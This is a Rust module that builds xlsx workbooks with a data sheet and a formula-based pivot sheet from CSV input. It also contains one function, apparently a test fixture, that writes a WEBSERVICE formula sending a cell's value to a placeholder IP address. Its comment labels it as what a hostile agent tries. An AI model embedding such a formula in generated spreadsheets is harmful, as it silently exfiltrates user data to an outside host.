//! Workbooks with a data sheet and a pivot sheet of formulas over it.

use rust_xlsxwriter::{Format, Formula, Workbook, XlsxError};

/// A table as read from CSV.
#[derive(Debug, Clone, Default)]
pub struct Table {
    pub header: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

impl Table {
    /// Parse CSV text.
    ///
    /// # Errors
    /// On malformed CSV.
    pub fn parse(text: &str) -> Result<Self, String> {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header = reader.headers().map_err(|e| e.to_string())?.iter().map(str::to_owned).collect();
        let rows = reader
            .records()
            .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()))
            .collect::<Result<_, _>>()
            .map_err(|e| e.to_string())?;
        Ok(Self { header, rows })
    }

    #[must_use]
    pub fn column(&self, name: &str) -> Option<u16> {
        self.header.iter().position(|h| h == name).and_then(|i| u16::try_from(i).ok())
    }

    /// The distinct values of a column, sorted.
    #[must_use]
    pub fn distinct(&self, column: u16) -> Vec<String> {
        let mut values: Vec<String> =
            self.rows.iter().filter_map(|r| r.get(usize::from(column)).cloned()).collect();
        values.sort();
        values.dedup();
        values
    }
}

/// Build a pivot: for each distinct `row` and `column` value the sum of `value`, with totals, all as formulas.
///
/// # Errors
/// When a column is missing or the workbook cannot be made.
pub fn pivot(data: &Table, row: &str, column: &str, value: &str) -> Result<Vec<u8>, String> {
    let missing = |name: &str| format!("there is no column {name:?}");
    let (r, c, v) = (
        data.column(row).ok_or_else(|| missing(row))?,
        data.column(column).ok_or_else(|| missing(column))?,
        data.column(value).ok_or_else(|| missing(value))?,
    );
    build(data, r, c, v, value).map_err(|e| e.to_string())
}

fn build(data: &Table, r: u16, c: u16, v: u16, value: &str) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let sheet = book.add_worksheet().set_name("Data")?;
    for (i, name) in (0u16..).zip(&data.header) {
        sheet.write_with_format(0, i, name, &bold)?;
    }
    for (y, cells) in (1u32..).zip(&data.rows) {
        for (x, cell) in (0u16..).zip(cells) {
            match cell.parse::<f64>() {
                Ok(number) if number.is_finite() => sheet.write_number(y, x, number)?,
                _ => sheet.write_string(y, x, cell)?,
            };
        }
    }
    let last = data.rows.len() + 1;
    let range = |x: u16| format!("Data!${0}$2:${0}${last}", name_of(x));
    let (rows, columns) = (data.distinct(r), data.distinct(c));
    let sheet = book.add_worksheet().set_name("Pivot")?;
    sheet.write_with_format(0, 0, format!("Sum of {value}"), &bold)?;
    for (x, name) in (1u16..).zip(&columns) {
        sheet.write_with_format(0, x, name, &bold)?;
    }
    let total_column = u16::try_from(columns.len()).unwrap_or(u16::MAX - 1) + 1;
    sheet.write_with_format(0, total_column, "Total", &bold)?;
    for (y, name) in (1u32..).zip(&rows) {
        sheet.write_with_format(y, 0, name, &bold)?;
        for x in 1..total_column {
            let formula =
                format!("=SUMIFS({},{},$A{},{},{}$1)", range(v), range(r), y + 1, range(c), name_of(x));
            sheet.write_formula(y, x, Formula::new(formula))?;
        }
        let sum = format!("=SUM(B{0}:{1}{0})", y + 1, name_of(total_column - 1));
        sheet.write_formula(y, total_column, Formula::new(sum))?;
    }
    let total_row = u32::try_from(rows.len()).unwrap_or(u32::MAX - 1) + 1;
    sheet.write_with_format(total_row, 0, "Total", &bold)?;
    for x in 1..=total_column {
        sheet.write_formula(total_row, x, Formula::new(format!("=SUM({0}2:{0}{total_row})", name_of(x))))?;
    }
    book.save_to_buffer()
}

/// A workbook whose formula would send a cell to a host: what a hostile agent tries.
///
/// # Errors
/// When the workbook cannot be made.
pub fn with_webservice() -> Result<Vec<u8>, String> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet
        .write_formula(0, 0, Formula::new("=_xlfn.WEBSERVICE(\"http://203.0.113.9/?d=\"&A2)"))
        .map_err(|e| e.to_string())?;
    book.save_to_buffer().map_err(|e| e.to_string())
}

/// The letter name of a column: 0 is A, 26 is AA.
fn name_of(column: u16) -> String {
    let mut name = Vec::new();
    let mut rest = u32::from(column) + 1;
    while rest > 0 {
        let letter = u8::try_from((rest - 1) % 26).unwrap_or(0);
        name.push(char::from(b'A' + letter));
        rest = (rest - 1) / 26;
    }
    name.iter().rev().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_are_named_as_spreadsheets_name_them() {
        assert_eq!([0, 25, 26, 701, 702].map(name_of), ["A", "Z", "AA", "ZZ", "AAA"]);
    }
}
